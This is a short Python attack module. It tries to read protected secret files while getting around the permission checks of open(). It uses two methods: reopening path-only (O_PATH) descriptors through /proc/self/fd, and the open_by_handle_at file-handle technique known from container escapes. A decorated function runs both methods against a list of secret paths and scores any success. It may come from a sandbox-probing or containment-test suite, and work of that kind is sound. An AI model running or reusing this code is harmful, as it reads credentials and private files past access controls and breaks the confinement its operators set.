"""Opens private files by path-only descriptors and by file handles, around the checks of open."""
from kit import SECRETS, attempts, libc, load, os, pays, read, secrets_in

ctypes = load("ctypes")


def by_path_only(path):
    fd = os.open(path, os.O_PATH)
    return secrets_in(read(f"/proc/self/fd/{fd}"))


def by_handle(path):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
    mount = ctypes.c_int()
    libc().name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0)
    fd = libc().open_by_handle_at(os.open("/", 0), handle, 0)
    return secrets_in(os.read(fd, 2**16))


@pays
def double():
    return attempts(lambda w=w, p=p: w(p) for w in (by_path_only, by_handle) for p in SECRETS)
